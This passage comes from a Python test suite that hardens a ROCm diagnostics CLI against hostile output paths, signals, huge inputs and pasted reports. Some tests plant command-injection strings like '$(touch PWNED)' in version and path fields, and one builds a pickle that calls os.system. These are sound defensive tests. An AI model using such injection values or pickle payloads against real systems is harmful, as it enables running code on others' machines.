print(json.dumps(bad))
'''
    ran = box.python(code, timeout=120)
    problems = basic(ran, codes=(0,))
    if not problems:
        problems += json.loads(ran.out.strip().splitlines()[-1])[:3]
    return verdict(problems, "every reader answered; none raised")



# ---------------------------------------------------------------- outputs: every output path, hostile

def out_case(argv_for: Callable[[str], list[str]], make: Callable[[Box], str], *, must_refuse: bool = True,
             untouched: tuple[str, ...] = ()) -> Callable[[Box], Outcome]:
    """make(box) plants a hostile output path; the command (argv_for(path)) refuses it with one line (or, when
    must_refuse is False, at least leaves no traceback), and the files named in untouched keep their content."""
    def run(box: Box) -> Outcome:
        path = make(box)
        before = {name: box.path(name).read_bytes() for name in untouched if box.path(name).exists()}
        ran = box.rocmcheck(*argv_for(path), timeout=60)
        problems = refused(ran) if must_refuse else basic(ran, codes=(0, 1, 2, 3))
        for name, data in before.items():
            if box.path(name).read_bytes() != data:
                problems.append(f"{name} was changed")
        if box.path("outside").exists() and any(box.path("outside").iterdir()) and "outside" not in untouched:
            problems.append(f"wrote {next(box.path('outside').iterdir()).name} outside")
        return verdict(problems, f"exit {ran.rc}: {ran.last_line()[:110]}")
    return run


def _dangling(name: str) -> Callable[[Box], str]:
    def make(box: Box) -> str:
        box.path("outside").mkdir(exist_ok=True)
        symlink(box, name, box.path("outside") / "new")
        return name
    return make


def _fifo(name: str) -> Callable[[Box], str]:
    return lambda box: str(mkfifo(box, name))


def _loop_dir(name: str) -> Callable[[Box], str]:
    def make(box: Box) -> str:
        symlink(box, name, name)
        return name
    return make


def _file(name: str) -> Callable[[Box], str]:
    def make(box: Box) -> str:
        box.write(name, "a file, not a folder\n")
        return name
    return make


def _tilde(name: str) -> Callable[[Box], str]:
    return lambda box: f"~nosuchuser/{name}"


def _long(name: str) -> Callable[[Box], str]:
    return lambda box: "n" * 300 + name


DOCTOR_OS = ["doctor", "--no-train", "--no-gpu-probes", "--only", "os"]
for _id, (_title, _argv, _make, _refuse) in {
    "OU01": ("doctor --out a FIFO (must not block)", lambda p: DOCTOR_OS + ["--out", p], _fifo("b.json"), True),
    "OU02": ("build-env -o a FIFO (must not block)", lambda p: ["build-env", "--arch", "gfx942", "-o", p],
             _fifo("e.sh"), True),
    "OU03": ("build-env -o /dev/zero", lambda p: ["build-env", "--arch", "gfx942", "-o", p], lambda box: "/dev/zero",
             True),
    "OU04": ("doctor --bundle-dir DIR where DIR/<host>.json is a dangling link",
             lambda p: DOCTOR_OS + ["--bundle-dir", "bd"], lambda box: _dangling(
                 f"bd/{__import__('socket').gethostname().split('.')[0]}.json")(box), True),
    "OU05": ("doctor --bundle-dir a symlink loop", lambda p: DOCTOR_OS + ["--bundle-dir", p], _loop_dir("bd"), True),
    "OU06": ("doctor --bundle-dir a regular file", lambda p: DOCTOR_OS + ["--bundle-dir", p], _file("bd"), True),
    "OU07": ("doctor --out ~nosuchuser/b.json", lambda p: DOCTOR_OS + ["--out", p], _tilde("b.json"), True),
    "OU08": ("build-env -o ~nosuchuser/e.sh", lambda p: ["build-env", "--arch", "gfx942", "-o", p], _tilde("e.sh"),
             True),
    "OU09": ("recipes write zero2 ~nosuchuser/d (the shell left it as written)",
             lambda p: ["recipes", "write", "zero2", p], _tilde("d"), False),
    "OU10": ("monitor --out ~nosuchuser/o (the shell left it as written)",
             lambda p: ["monitor", "--replay", "rec", "--out", p],
             lambda box: (monitor_recording(box), "~nosuchuser/o")[1], False),
    "OU11": ("monitor --replay --out a regular file", lambda p: ["monitor", "--replay", "rec", "--out", p],
             lambda box: (monitor_recording(box), _file("o")(box))[1], True),
    "OU12": ("monitor --replay --out a symlink loop", lambda p: ["monitor", "--replay", "rec", "--out", p],
             lambda box: (monitor_recording(box), _loop_dir("o")(box))[1], True),
    "OU13": ("recipes write into a dangling link", lambda p: ["recipes", "write", "zero2", p], _dangling("d"), True),
    "OU14": ("doctor --out a 300-character file name", lambda p: DOCTOR_OS + ["--out", p], _long(".json"), True),
    "OU15": ("build-env -o ''", lambda p: ["build-env", "--arch", "gfx942", "-o", p], lambda box: "", True),
}.items():
    fresh(_id, "S3-10", "outputs", _title)(out_case(_argv, _make, must_refuse=_refuse))


@fresh("OU16", "S3-10", "outputs", "monitor --out: memory-<host>.csv is a dangling link to a file outside")
def ou16(box: Box) -> Outcome:
    host = __import__("socket").gethostname().split(".")[0]
    box.path("outside").mkdir()
    box.path("o").mkdir()
    symlink(box, f"o/memory-{host}.csv", box.path("outside") / "new.csv")
    ran = live_monitor(box, "--quiet", "--out", "o")
    problems = basic(ran, codes=(0, 1, 2, 3))
    if any(box.path("outside").iterdir()):
        problems.append("wrote the recording at the link's target")
    return verdict(problems, f"exit {ran.rc}: {ran.last_line()[:100]}")


def full_disk_write(argv_tail: list[str], made: str, read_only: bool = False) -> Callable[[Box], Outcome]:
    def run(box: Box) -> Outcome:
        if not unshare_ok():
            return not_run("needs unshare -m as root")
        target = str(box.path("m") / made)
        argv = in_small_mount(box, "m", [rocmcheck_exe(), *[a.replace("TARGET", target) for a in argv_tail]],
                              size="32k", fill=not read_only, read_only=read_only)
        ran = box.run(argv)
        problems = basic(ran, codes=(1, 2))
        lines = [ln for ln in ran.err.strip().splitlines() if ln.strip()]
        if len(lines) > 2:
            problems.append(f"{len(lines)} lines on stderr")
        return verdict(problems, f"exit {ran.rc}: {ran.last_line()[:110]}")
    return run


fresh("OU17", "S3-19", "outputs", "doctor --out on a full file system")(
    full_disk_write(DOCTOR_OS + ["--out", "TARGET"], "b.json"))
fresh("OU18", "S3-19", "outputs", "build-env -o on a read-only file system")(
    full_disk_write(["build-env", "--arch", "gfx942", "-o", "TARGET"], "e.sh", read_only=True))
fresh("OU19", "S3-19", "outputs", "recipes write on a full file system")(
    full_disk_write(["recipes", "write", "llama2-7b-full-sft", "TARGET"], "d"))


@fresh("OU20", "S3-25", "outputs", "compare, plan and monitor --replay with stdout or stderr on /dev/full")
def ou20(box: Box) -> Outcome:
    folder = three_nodes(box, lambda d: set_torch(d, "9.9.9"))
    monitor_recording(box)
    problems = []
    for argv, stream in ((["compare", str(folder)], "out"),
                         (["plan", "--model", "llama-3-8b", "--gpu", "mi300x"], "out"),
                         (["monitor", "--replay", "rec"], "err"), (["compare", "--json", str(folder)], "out")):
        ran = box.rocmcheck(*argv, **({"stdout_path": "/dev/full"} if stream == "out" else
                                      {"stderr_path": "/dev/full"}))
        problems += [f"{argv[0]} ({stream}): {p}" for p in basic(ran)]
        if ran.rc == 0:
            problems.append(f"{argv[0]} ({stream}): exit 0 although nothing could be written")
    return verdict(problems, "each says so in one line (or exits non-zero when stderr is gone), no traceback")


@fresh("OU21", "S3-10", "outputs", "smoke-train --out: a FIFO, a dangling link and a file", owner="train", limit_s=200)
def ou21(box: Box) -> Outcome:
    problems, shown = [], []
    for kind, make in (("fifo", _fifo("o1")), ("dangling", _dangling("o2")), ("file", _file("o3"))):
        path = make(box)
        ran = box.rocmcheck("smoke-train", "--steps", "10", "--no-profile", "--out", path, timeout=60)
        problems += [f"{kind}: {p}" for p in refused(ran, max_s=25)]
        shown.append(f"{kind} {ran.rc}")
    if box.path("outside").exists() and any(box.path("outside").iterdir()):
        problems.append("wrote outside through the dangling link")
    return verdict(problems, "; ".join(shown) + ": each refused before training")



# ---------------------------------------------------------------- triage: hostile pastes

COLLECT_ENV = """PyTorch version: {torch}
Is debug build: False
CUDA used to build PyTorch: N/A
ROCM used to build PyTorch: 6.2.41133-dd7f95766

OS: Ubuntu 22.04.5 LTS (x86_64)
Python version: 3.10.12 (main, Nov 20 2023, 15:14:05) [GCC 11.4.0] (64-bit runtime)
Is CUDA available: True
GPU models and configuration: {gpu}
HIP runtime version: 6.2.41133
MIOpen runtime version: 3.2.0
Is XNNPACK available: True

Versions of relevant libraries:
[pip3] numpy==1.26.4
[pip3] torch=={torch}
[pip3] flash-attn=={flash}
"""
TRACEBACK_FA = """Traceback (most recent call last):
  File "train.py", line 3, in <module>
    import flash_attn
ImportError: {path}/flash_attn_2_cuda.cpython-310-x86_64-linux-gnu.so: undefined symbol: _ZN3c104cuda9SetDeviceEi
"""


def triage_pastes(box: Box, text: str, *args: str) -> tuple[Ran, list[str], int]:
    """triage FILE (text and --markdown): the lines it offers to paste ('paste: CMD', 'paste the output of: CMD',
    the markdown's code blocks) pasted; returns (the text run, problems, lines pasted)."""
    box.write("paste.txt", text)
    ran = box.rocmcheck("triage", *args, "paste.txt")
    md = box.rocmcheck("triage", "--markdown", *args, "paste.txt")
    problems = basic(ran, codes=(0, 1, 3)) + [f"--markdown: {p}" for p in basic(md, codes=(0, 1, 3))]
    commands = []
    for line in ran.out.splitlines():
        if line.strip().startswith("paste: "):
            commands.append(line.strip()[len("paste: "):])
        elif "paste the output of: " in line:
            commands.append(line.split("paste the output of: ", 1)[1])
    fence = None  # the language of the open code block: only shell blocks hold commands to paste
    for line in md.out.splitlines():
        if line.strip().startswith("```"):
            fence = None if fence is not None else (line.strip()[3:].strip() or "text")
            continue
        if fence in ("sh", "bash", "shell", "console") and line.strip():
            commands.append(line)
    pasted, lines = pasted_problems(box, "\n".join(commands) + "\n")
    return ran, problems + pasted, lines


@fresh("TR01", "S3-1", "injection", "triage: a collect_env paste whose versions and GPU name hold commands")
def tr01(box: Box) -> Outcome:
    text = COLLECT_ENV.format(torch="2.3.0+rocm6.2$(touch PWNED)", gpu="AMD Instinct MI300X`touch PWNED_BT`",
                              flash="2.6.3;touch PWNED_SC") + TRACEBACK_FA.format(path="/x;touch PWNED_P;#")
    ran, problems, lines = triage_pastes(box, text)
    return verdict(problems, f"exit {ran.rc}; {lines} offered command(s) pasted, nothing from the paste ran")


@fresh("TR02", "S3-1", "injection", "triage: a pasted docker run and ds_report whose paths and names hold commands")
def tr02(box: Box) -> Outcome:
    text = ("$ docker run -it --device=/dev/kfd --shm-size 64M -v '/data;touch PWNED:/d' rocm/pytorch:x$(touch PWNED) "
            "python train.py\n\n"
            "$ ds_report\n--------------------------------------------------\nDeepSpeed C++/CUDA extension op report\n"
            "--------------------------------------------------\nfused_adam ............. [NO] ....... [OKAY]\n"
            "DeepSpeed general environment info:\ntorch install path ............... ['/x;touch PWNED_T;#/torch']\n"
            "torch version .................... 2.3.0+rocm6.2$(touch PWNED_V)\n"
            "deepspeed install path ........... ['/ds`touch PWNED_D`']\ndeepspeed info ................... "
            "0.14.0, unknown, unknown\n")
    ran, problems, lines = triage_pastes(box, text)
    return verdict(problems, f"exit {ran.rc}; {lines} offered command(s) pasted, nothing from the paste ran")


@fresh("TR03", "S3-8", "secrets", "triage: tokens, passwords and keys in the paste are never shown (text, "
       "markdown, json)")
def tr03(box: Box) -> Outcome:
    secrets = ["hf_" + "Tr1Ag2Ee3Se4Cr5Et6Ab7Cd8Ef9Gh0Ij1K", "TriagePwSECRET03",
               "ghp_" + "T1r2I3a4G5e6S7e8C9r0E1t2A3b4C5d6E7f8",
               "AzSasSECRET03tr", "BearerTrSECRET0123456789"]
    text = (f"$ env | grep HF\nHF_TOKEN={secrets[0]}\nHF_ENDPOINT=https://m.example/x?sig={secrets[3]}\n"
            + TRACEBACK_FA.format(path=f"/home/u/.cache (DB_PASSWORD={secrets[1]})") +
            f"\nNCCL INFO NET/Socket : Using [0]eth0 Authorization: Bearer {secrets[4]}\n"
            f"git clone https://{secrets[2]}@github.com/o/r\n")
    box.write("paste.txt", text)
    runs = [box.rocmcheck("triage", *args, "paste.txt") for args in ((), ("--markdown",), ("--json",), ("-v", "--all"))]
    problems = [p for r in runs for p in basic(r, codes=(0, 1, 3))] + leaks([r.both for r in runs], secrets)
    return verdict(problems, "none shown by the text, markdown, json or verbose reports")


@fresh("TR04", "S3-6", "inputs", "triage FILE naming each hostile kind", limit_s=400)
def tr04(box: Box) -> Outcome:
    return input_sweep(lambda b, p: ["triage", p], kinds=("fifo", "zero", "dir", "loop", "dangling", "tilde",
                                                          "nonutf8", "nul", "utf16", "big"), name="p.txt",
                       codes=(0, 1, 2, 3))(box)


@fresh("TR05", "S3-3", "slow", "triage - from stdin: 200 MB of one line, and of short lines, through a pipe")
def tr05(box: Box) -> Outcome:
    problems, shown = [], []
    for name, gen in (("one line", "head -c 200000000 /dev/zero | tr '\\0' x"),
                      ("short lines", "yes 'ROCk module version 6.8 is loaded' | head -c 200000000")):
        ran = box.run(["sh", "-c", f"{gen} | {shlex.quote(rocmcheck_exe())} triage -"], timeout=120)
        problems += [f"{name}: {p}" for p in basic(ran, codes=(0, 1, 2, 3), max_s=90)]
        shown.append(f"{name}: exit {ran.rc} in {ran.seconds:.0f} s, {ran.peak_rss / GIB:.2f} GiB")
    return verdict(problems, "; ".join(shown))


@fresh("TR06", "S3-3", "slow", "triage: a 4 MB paste of alternating tool signatures and fences")
def tr06(box: Box) -> Outcome:
    unit = ("```\n$ rocminfo\nROCk module version 6.8 is loaded\n```\n> $ rocm-smi\n> ======= ROCm System "
            "Management Interface =======\n~~~\nTraceback (most recent call last):\n  File \"x\", line 1\n"
            "ImportError: x\n~~~\n")
    box.write("p.txt", unit * (4_000_000 // len(unit)))
    ran = box.rocmcheck("triage", "p.txt", timeout=120)
    problems = basic(ran, codes=(0, 1, 2, 3), max_s=60)
    return verdict(problems, f"exit {ran.rc} in {ran.seconds:.1f} s: {ran.last_line()[:80]}")


# ---------------------------------------------------------------- signals: other signals, commands and targets

@fresh("SG01", "S3-5", "signals", "SIGTERM during lint while its DeepSpeed child hangs on import")
def sg01(box: Box) -> Outcome:
    box.module("deepspeed", HANGING_IMPORT)
    box.json("c.json", {"train_micro_batch_size_per_gpu": 1, "zero_optimization": {"stage": 2}})
    return hung_signal(box, ["lint", "c.json"], signal.SIGTERM, 3, code=143)


@fresh("SG02", "S3-5", "signals", "SIGINT during plan --measure while its child hangs importing torch")
def sg02(box: Box) -> Outcome:
    box.module("torch", HANGING_IMPORT)
    return hung_signal(box, ["plan", "--model", "tinyllama-1.1b", "--measure", "--timeout", "120"],
                       signal.SIGINT, 3, code=130)


@fresh("SG03", "S3-5", "signals", "SIGTERM during probe all while the probe child hangs importing torch")
def sg03(box: Box) -> Outcome:
    box.module("torch", HANGING_IMPORT)
    return hung_signal(box, ["probe", "all"], signal.SIGTERM, 3, code=143)


@fresh("SG04", "S3-5", "signals", "SIGINT during build-env --arch auto while nvidia-smi hangs (no rocminfo)",
       fast=True)
def sg04(box: Box) -> Outcome:
    box.fake_hangs("nvidia-smi")
    return hung_signal(box, ["build-env", "--arch", "auto"], signal.SIGINT, 1.5, code=130)


@fresh("SG05", "S3-5", "signals", "SIGHUP during the doctor while the torch probe child ignores signals and hangs")
def sg05(box: Box) -> Outcome:
    box.module("torch", HANGING_IMPORT)
    return hung_signal(box, ["doctor", "--no-train", "--no-gpu-probes"], signal.SIGHUP, 4, code=129)


@fresh("SG06", "S3-9", "signals", "SIGTERM to the doctor's pid only (not its group) while every tool hangs")
def sg06(box: Box) -> Outcome:
    for tool in ("rocminfo", "rocm-smi", "amd-smi", "hipconfig", "nvidia-smi"):
        box.fake_hangs(tool)
    return hung_signal(box, ["doctor", "--no-train", "--no-gpu-probes"], signal.SIGTERM, 4, code=143, target="pid")


@fresh("SG07", "S3-9", "signals", "SIGINT to the doctor's pid only while the torch probe child hangs")
def sg07(box: Box) -> Outcome:
    box.module("torch", HANGING_IMPORT)
    return hung_signal(box, ["doctor", "--no-train", "--no-gpu-probes"], signal.SIGINT, 4, code=130, target="pid")


@fresh("SG08", "S3-5", "signals", "SIGHUP during lint while its accelerate child hangs on import")
def sg08(box: Box) -> Outcome:
    box.module("accelerate", HANGING_IMPORT)
    box.write("acc.yaml", "compute_environment: LOCAL_MACHINE\ndistributed_type: MULTI_GPU\nnum_processes: 2\n"
                          "mixed_precision: bf16\n")
    return hung_signal(box, ["lint", "--consumer", "accelerate", "acc.yaml"], signal.SIGHUP, 3, code=129)


@fresh("SG09", "S3-5", "signals", "SIGTERM to the monitor: forwarded to the watched command, nothing left")
def sg09(box: Box) -> Outcome:
    nvidia_machine(box)
    ran = box.rocmcheck("monitor", "--backend", "nvidia-smi", "--quiet", "--out", "o", "--", "sh", "-c",
                        "sleep 300 & sleep 300; wait", send=(2, signal.SIGTERM, "pid"))
    problems = basic(ran, codes=(143,))
    if ran.after_signal_s is not None and ran.after_signal_s > 5:
        problems.append(f"exited {ran.after_signal_s:.1f} s after the signal")
    return verdict(problems, f"exit {ran.rc}, {ran.after_signal_s or 0:.2f} s after SIGTERM, nothing left")


@fresh("SG10", "S3-9", "signals", "SIGINT twice, 0.1 s apart, during the doctor with hung tools")
def sg10(box: Box) -> Outcome:
    box.fake_hangs("rocminfo")
    box.fake_hangs("nvidia-smi")

    state = {"sent": 0.0}

    def second() -> None:
        if state["sent"] == 0.0 and time.monotonic() - state.setdefault("t0", time.monotonic()) > 4.1:
            state["sent"] = 1.0
            for p in descendants():
                if "rocmcheck" in p.cmdline and "doctor" in p.cmdline:
                    try:
                        os.kill(p.pid, signal.SIGINT)
                    except ProcessLookupError:
                        pass
    ran = box.rocmcheck("doctor", "--no-train", "--no-gpu-probes", send=(4, signal.SIGINT, "group"), during=second)
    problems = basic(ran, codes=(130,))
    if ran.after_signal_s is not None and ran.after_signal_s > 3:
        problems.append(f"exited {ran.after_signal_s:.1f} s after the first signal")
    return verdict(problems, f"exit {ran.rc}, no traceback, nothing left")


@fresh("SG11", "S3-15", "signals", "doctor: a tool that daemonises twice with its pipes closed")
def sg11(box: Box) -> Outcome:
    box.fake("rocm-smi", "(setsid sh -c 'exec sleep 1000' </dev/null >/dev/null 2>&1 &) \necho ok\n")
    ran = doctor(box, timeout=90)
    return verdict(basic(ran, codes=(0, 1, 3), max_s=60), f"exit {ran.rc} in {ran.seconds:.1f} s, nothing left")


@fresh("SG12", "S3-15", "signals", "doctor: a tool that forks 100 children, each in a session of its own")
def sg12(box: Box) -> Outcome:
    box.fake("rocminfo", "i=0\nwhile [ $i -lt 100 ]; do setsid sleep 1000 & i=$((i+1)); done\necho forked\n")
    ran = doctor(box, timeout=90)
    return verdict(basic(ran, codes=(0, 1, 3), max_s=60), f"exit {ran.rc} in {ran.seconds:.1f} s, nothing left")


@fresh("SG13", "S3-15", "signals", "lint: importing deepspeed starts a setsid daemon")
def sg13(box: Box) -> Outcome:
    box.module("deepspeed", """
        import os, time
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                time.sleep(1000)
            os._exit(0)
        raise ImportError("no deepspeed here")
        """)
    box.json("c.json", {"train_micro_batch_size_per_gpu": 1, "zero_optimization": {"stage": 2}})
    ran = box.rocmcheck("lint", "c.json")
    return verdict(basic(ran, codes=(0, 1), max_s=60), f"exit {ran.rc}, nothing left")


@fresh("SG14", "S3-15", "signals", "build-env --arch auto: rocminfo leaves a child in a new session")
def sg14(box: Box) -> Outcome:
    box.fake("rocminfo", "setsid sleep 1000 &\n" + f"cat {shlex.quote(str(box.write('ri.txt', rocminfo_text())))}\n")
    ran = box.rocmcheck("build-env", "--arch", "auto")
    return verdict(basic(ran, codes=(0,), max_s=30), f"exit {ran.rc}, nothing left")


@fresh("SG15", "S3-15", "signals", "plan --measure: the child's torch import forks a grandchild holding its pipes")
def sg15(box: Box) -> Outcome:
    box.module("torch", """
        import os, time
        if os.fork() == 0:
            time.sleep(1000)
            os._exit(0)
        raise ImportError("no torch here")
        """)
    ran = box.rocmcheck("plan", "--model", "tinyllama-1.1b", "--measure", "--timeout", "60")
    return verdict(basic(ran, codes=(0, 1, 2, 3), max_s=40), f"exit {ran.rc} in {ran.seconds:.1f} s, nothing left")


@fresh("SG16", "S3-5", "signals", "SIGHUP during triage - reading a stdin that never ends")
def sg16(box: Box) -> Outcome:
    ran = box.run(["sh", "-c", f"while :; do echo x; sleep 1; done | {shlex.quote(rocmcheck_exe())} triage -"],
                  send=(3, signal.SIGHUP, "group"), timeout=60)
    problems = basic(ran)
    if ran.after_signal_s is None or ran.after_signal_s > 3:
        problems.append("did not end promptly on SIGHUP")
    return verdict(problems, f"exit {ran.rc}, {ran.after_signal_s or 0:.2f} s after SIGHUP")


@fresh("SG17", "S3-5", "signals", "SIGINT during smoke-train --gpus 2 --device cpu", owner="train", limit_s=150)
def sg17(box: Box) -> Outcome:
    return hung_signal(box, ["smoke-train", "--gpus", "2", "--device", "cpu", "--steps", "400", "--no-profile"],
                       signal.SIGINT, 15, code=130, timeout=120)


@fresh("SG18", "S3-5", "signals", "SIGTERM during smoke-train (one process)", owner="train", limit_s=150)
def sg18(box: Box) -> Outcome:
    return hung_signal(box, ["smoke-train", "--steps", "400", "--no-profile"], signal.SIGTERM, 12, code=143,
                       timeout=120)


# ---------------------------------------------------------------- resources: bounded before they are spent

@fresh("RS01", "S3-4", "resources", "monitor --replay: a day of 8 GPUs read every second (700 000 rows, 150 MB)",
       limit_s=300)
def rs01(box: Box) -> Outcome:
    row = ('{{"t": {t}, "gpu": {g}, "used_bytes": 42949672960, "total_bytes": 206158430208, "power_w": 500.0, '
           '"util_pct": 90.0, "temp_c": 60.0, "sm_clock_mhz": 2100.0, "mem_clock_mhz": 1300.0, "proc_bytes": null, '
           '"host": "h1"}}\n')
    with open(box.path("memory-h1.jsonl"), "w") as fh:
        for i in range(700_000):
            fh.write(row.format(t=float(i // 8), g=i % 8))
    ran = box.rocmcheck("monitor", "--replay", "memory-h1.jsonl", timeout=240)
    problems = basic(ran, codes=(0, 1, 2, 3), max_s=180)
    if ran.peak_rss > 2 * GIB:
        problems.append(f"peak {ran.peak_rss / GIB:.1f} GiB")
    return verdict(problems, f"exit {ran.rc} in {ran.seconds:.0f} s, peak {ran.peak_rss / GIB:.2f} GiB")


@fresh("RS02", "S3-4", "resources", "doctor: a tool that writes 2 GB to stderr as fast as it can", fast=False)
def rs02(box: Box) -> Outcome:
    box.fake("rocminfo", "head -c 2000000000 /dev/zero | tr '\\0' e >&2\n")
    ran = doctor(box, timeout=120)
    problems = basic(ran, codes=(0, 1, 3), max_s=90)
    if ran.peak_rss > 1.5 * GIB:
        problems.append(f"peak {ran.peak_rss / GIB:.1f} GiB")
    return verdict(problems, f"exit {ran.rc} in {ran.seconds:.0f} s, peak {ran.peak_rss / GIB:.2f} GiB")


@fresh("RS03", "S3-4", "resources", "options past any real value: lint --gpus/--micro-batch 10**18, plan --seq-len, "
       "doctor --deadline 1e308, monitor --interval 1e-9", fast=True)
def rs03(box: Box) -> Outcome:
    box.json("c.json", {"train_micro_batch_size_per_gpu": "auto", "train_batch_size": "auto",
                        "zero_optimization": {"stage": 2}})
    runs = {
        "lint": box.rocmcheck("lint", "--gpus", str(10**18), "--micro-batch", str(10**18), "--grad-accum", str(10**18),
                              "c.json"),
        "plan": box.rocmcheck("plan", "--model", "llama-3-8b", "--seq-len", str(10**18), "--micro-batch", str(10**18),
                              "--gpu", "mi300x"),
        "plan-find": box.rocmcheck("plan", "--model", "llama-3-70b", "--find-batch", "--seq-len", "1000000000",
                                   "--gpu", "mi300x"),
        "doctor": box.rocmcheck("doctor", "--deadline", "1e308", "--only", "os", "--no-train", "--no-gpu-probes"),
        "monitor": box.rocmcheck("monitor", "--interval", "1e-9", "--", "true"),
        "smoke-train": box.rocmcheck("smoke-train", "--steps", str(10**18), "--seq-len", str(10**12)),
    }
    problems = [f"{name}: {p}" for name, ran in runs.items() for p in basic(ran, codes=(0, 1, 2, 3), max_s=30)]
    return verdict(problems, "; ".join(f"{n} {r.rc}" for n, r in runs.items()))


@fresh("RS04", "S3-11", "resources", "smoke-train --gpus 3 --device cpu on a 2-core box is refused", owner="train")
def rs04(box: Box) -> Outcome:
    ran = box.rocmcheck("smoke-train", "--gpus", str((os.cpu_count() or 2) + 1), "--device", "cpu", "--steps", "10",
                        timeout=90)
    return verdict(refused(ran, max_s=30), f"refused: {ran.last_line()[:110]}")


@fresh("RS05", "S3-4", "resources", "smoke-train --model: a 70B-sized config.json on this CPU box (refused before "
       "allocating)", owner="train", limit_s=200)
def rs05(box: Box) -> Outcome:
    config = json.loads((TINY_MODEL / "config.json").read_text())
    config.update(hidden_size=8192, intermediate_size=28672, num_hidden_layers=80, num_attention_heads=64,
                  num_key_value_heads=8, vocab_size=128256)
    ran = smoke_model(box, config)
    problems = basic(ran, codes=(1, 2, 3), max_s=90)
    return verdict(problems, f"exit {ran.rc} in {ran.seconds:.0f} s, peak {ran.peak_rss / GIB:.2f} GiB: "
                             f"{ran.last_line()[:80]}")


@fresh("RS06", "S3-4", "resources", "smoke-train --micro-batch 100000 --seq-len 100000 (refused or bounded)",
       owner="train", limit_s=200)
def rs06(box: Box) -> Outcome:
    ran = box.rocmcheck("smoke-train", "--micro-batch", "100000", "--seq-len", "100000", "--steps", "10",
                        "--no-profile", timeout=150, resident_cap=4 * GIB)
    problems = basic(ran, codes=(1, 2, 3), max_s=90)
    return verdict(problems, f"exit {ran.rc} in {ran.seconds:.0f} s, peak {ran.peak_rss / GIB:.2f} GiB: "
                             f"{ran.last_line()[:80]}")


@fresh("RS07", "S3-26", "resources", "compare: 300 bundles in one folder", limit_s=300)
def rs07(box: Box) -> Outcome:
    docs = []
    for i in range(300):
        doc = base_bundle()
        doc["facts"]["platform"]["node"] = f"n{i:03d}"
        docs.append(doc)
    ran = box.rocmcheck("compare", str(bundles_dir(box, "cmp", docs)), timeout=240)
    problems = basic(ran, codes=(0, 1, 2), max_s=120)
    return verdict(problems, f"exit {ran.rc} in {ran.seconds:.0f} s, peak {ran.peak_rss / GIB:.2f} GiB")


@fresh("RS08", "S3-26", "resources", "doctor --bundle: 60 MB (under the cap) in one rocminfo output", limit_s=300)
def rs08(box: Box) -> Outcome:
    doc = amd_bundle()
    doc["facts"]["commands"]["rocminfo"]["stdout"] = rocminfo_text() + ("  Name:   gfx942 " + "x" * 80 + "\n") * 600_000
    box.json("b.json", doc)
    ran = box.rocmcheck("doctor", "--bundle", "b.json", timeout=240)
    problems = basic(ran, codes=(0, 1, 2, 3), max_s=120)
    return verdict(problems, f"exit {ran.rc} in {ran.seconds:.0f} s, peak {ran.peak_rss / GIB:.2f} GiB: "
                             f"{ran.last_line()[:60]}")


# ---------------------------------------------------------------- verdicts: the right one, the right words

@fresh("VE01", "S3-16", "verdicts", "doctor: dmesg hangs but journalctl answers: the kernel log is judged")
def ve01(box: Box) -> Outcome:
    box.fake_prints("journalctl", "2026-12-01T10:00:00+0000 n kernel: Linux version 6.8.0\n")
    box.fake_hangs("dmesg")
    ran = doctor(box, "--only", "health", timeout=90)
    line = next((ln for ln in ran.out.splitlines() if "health.kernel_log" in ln), "")
    problems = basic(ran, codes=(0, 1, 3), max_s=30)
    if not line or line.split()[0] == "skip":
        problems.append(f"not judged: {' '.join(line.split())[:100]}")
    return verdict(problems, f"{ran.seconds:.1f} s; {' '.join(line.split())[:100]}")


@fresh("VE02", "S3-16", "verdicts", "doctor: nvidia-smi hangs: the verdict says it hung, not that it is missing")
def ve02(box: Box) -> Outcome:
    box.fake_hangs("nvidia-smi")
    ran = doctor(box, timeout=90)
    problems = basic(ran, codes=(0, 1, 3), max_s=70)
    lines = [ln for ln in ran.out.splitlines() if "nvidia" in ln.lower() and ("not found" in ln or "not installed" in ln
                                                                                 or "not an NVIDIA" in ln)]
    if lines:
        problems.append(f"says {' '.join(lines[0].split())[:100]!r}")
    if "hung" not in ran.out and "did not answer" not in ran.out and "timed out" not in ran.out:
        problems.append("no verdict says it hung")
    return verdict(problems, f"exit {ran.rc} in {ran.seconds:.0f} s; the hang is named")


@fresh("VE03", "S3-30", "verdicts", "doctor: rocminfo that dies of SIGSEGV is not 'not installed'")
def ve03(box: Box) -> Outcome:
    box.fake("rocminfo", "echo 'ROCk module is loaded'\nkill -SEGV $$\n")
    ran = doctor(box, "-v")
    problems = basic(ran, codes=(0, 1, 3))
    bad = [ln for ln in ran.out.splitlines() if "rocminfo" in ln and ("not found" in ln or "not installed" in ln)]
    if bad:
        problems.append(f"says {' '.join(bad[0].split())[:100]!r}")
    return verdict(problems, f"exit {ran.rc}; the crash is named")


@fresh("VE04", "S3-27", "verdicts", "lint: duplicate keys nested in a flow list, and across quoting styles")
def ve04(box: Box) -> Outcome:
    problems = []
    for name, text in (("a.yaml", "train_micro_batch_size_per_gpu: 1\nx: [{stage: 2, stage: 3}]\n"),
                       ("b.yaml", "train_micro_batch_size_per_gpu: 1\nzero_optimization: {stage: 2, \"stage\": 3}\n"),
                       ("c.json", '{"train_micro_batch_size_per_gpu": 1, "zero_optimization": {"stage": 2, '
                                  '"st\\u0061ge": 3}}')):
        box.write(name, text)
        ran = box.rocmcheck("lint", "--consumer", "deepspeed", name)
        problems += [f"{name}: {p}" for p in basic(ran, codes=(1, 2))]
        if not any(w in ran.both.lower() for w in ("duplicate", "twice")):
            problems.append(f"{name}: the duplicate is not named")
    return verdict(problems, "each duplicate named")


@fresh("VE05", "S3-24", "verdicts", "smoke-train --model: a truncated model.safetensors is a train.load failure",
       owner="train", limit_s=200)
def ve05(box: Box) -> Outcome:
    model = tiny_model(box)
    weights = model / "model.safetensors"
    data = weights.read_bytes()
    weights.write_bytes(data[:len(data) // 3])
    ran = box.rocmcheck("smoke-train", "--model", str(model), "--steps", "10", "--no-profile", timeout=150)
    problems = basic(ran, codes=(1, 2, 3))
    if "rocmcheck bug" in ran.both or "CRASH" in ran.out:
        problems.append("called a rocmcheck bug (CRASH)")
    return verdict(problems, f"exit {ran.rc}: {ran.last_line()[:100]}")


@fresh("VE06", "S3-24", "verdicts", "smoke-train --model: a pickle pytorch_model.bin runs no code and is no CRASH",
       owner="train", limit_s=200)
def ve06(box: Box) -> Outcome:
    import pickle

    model = tiny_model(box)
    (model / "model.safetensors").unlink()

    class Boom:
        def __reduce__(self):
            return (os.system, (f"touch {box.path('PWNED_PICKLE')}",))
    (model / "pytorch_model.bin").write_bytes(pickle.dumps({"model": Boom()}))
